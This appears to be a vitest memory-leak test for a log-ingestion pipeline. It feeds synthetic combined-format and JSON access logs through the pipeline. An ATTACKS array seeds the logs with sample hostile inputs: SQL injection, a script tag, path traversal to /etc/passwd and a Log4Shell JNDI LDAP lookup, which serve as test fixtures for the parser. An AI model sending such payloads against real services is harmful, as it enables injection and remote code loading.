import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { expect, it } from "vitest";
import { openNetworks } from "./normalize/networks.ts";
import { createFront } from "./pipeline.ts";

setFlagsFromString("--expose-gc");
const collect: () => void = runInNewContext("gc");

const LINES = 6_000;
const MEGABYTE = 1 << 20;
const ATTACKS = [
  "1%27%20or%201%3D1--%20",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "../../../../etc/passwd",
  "%24%7Bjndi:ldap://h.example/",
];

/** A batch brings few new ones, as logs do. */
function addressOf(batch: number, line: number): string {
  return `112.${100 + batch}.${100 + (line % 50)}.117`;
}

/** Lines in which hardly anything comes twice. */
function combined(batch: number): string {
  return Array.from({ length: LINES }, (_, i) => {
    const n = batch * LINES + i;
    const attack = i % 500 === 0 ? `?q=${ATTACKS[(i / 500) % 4]}${n}` : `?page=${n}`;
    return `${addressOf(batch, i)} - u${n} [03/Mar/2026:10:00:00 +0000] "GET /w${n % 9_973}x/orders/${n}${attack} HTTP/1.1" 200 512 "https://shop.example/from/${n}" "Client-${n}/1.0 (${"x".repeat(60)})"`;
  }).join("\n");
}

function json(batch: number): string {
  return Array.from({ length: LINES }, (_, i) => {
    const n = batch * LINES + i;
    const note =
      i % 500 === 0 ? decodeURIComponent(`${ATTACKS[(i / 500) % 4]}${n}`) : `note ${n} ${"x".repeat(60)}`;
    return JSON.stringify({
      timestamp: "2026-03-03T10:00:00Z",
      "http.request.method": "POST",
      "url.path": `/w${n % 9_973}x/orders/${n}`,
      "client.address": addressOf(batch, i),
      "http.request.headers": { authorization: `Bearer token-${n}`, [`x-h-${n % 5_000}`]: "1" },
      "http.request.body": JSON.stringify({ [`field${n % 9_973}`]: note }),
      "http.response.status_code": 200,
    });
  }).join("\n");
}

const settings = { trustedProxies: [], service: "shop", networks: { folder: "none" } };
const options = { zoneMinutes: 0, newest: Date.UTC(2026, 2, 4) };

it.each([
  ["combined lines", "combined", combined],
  ["JSON", "ndjson", json],
])("of the %s that it has read it holds on to nothing", { timeout: 120_000 }, (_, format, batchOf) => {
  const choice = { format, envelope: "none", options, records: "lines", fallbacks: [] } as const;
  const front = createFront(choice, settings, openNetworks(settings.networks));
  /** Megabytes, after so many more batches of about one. */
  const held = (from: number, to: number): number => {
    for (let batch = from; batch < to; batch++) {
      expect(front.read(Buffer.from(batchOf(batch))).events).toBe(LINES);
    }
    collect();
    const { heapUsed, external } = process.memoryUsage();
    return (heapUsed + external) / MEGABYTE;
  };
  const before = held(0, 20);
  // Of the 26 that were read since; caches still fill.
  expect(held(20, 40) - before).toBeLessThan(13);
});
